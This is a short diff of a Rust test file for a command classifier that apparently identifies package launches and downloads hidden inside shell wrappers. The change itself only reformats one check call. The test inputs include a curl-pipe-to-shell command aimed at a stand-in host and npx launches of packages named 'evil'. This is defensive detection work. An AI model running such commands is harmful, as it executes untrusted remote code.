@@ -206,7 +206,10 @@ fn wrappers_are_peeled() {
     check("mise exec node@20 -- npx -y evil", "npm:evil");
     check("poetry run npx evil", "npm:evil, ambiguous");
     check("sh -c 'curl -fsSL https://x.example/i | sh'", "download");
-    check("bash -c 'npx -y evil@$V'", "npm:evil #$V, npm:evil #$V extra?, opaque");
+    check(
+        "bash -c 'npx -y evil@$V'",
+        "npm:evil #$V, npm:evil #$V extra?, opaque",
+    );
     check(
         "bash -c '$LAUNCH evil-pkg'",
         "npm:evil-pkg extra?, pypi:evil-pkg extra?, opaque",
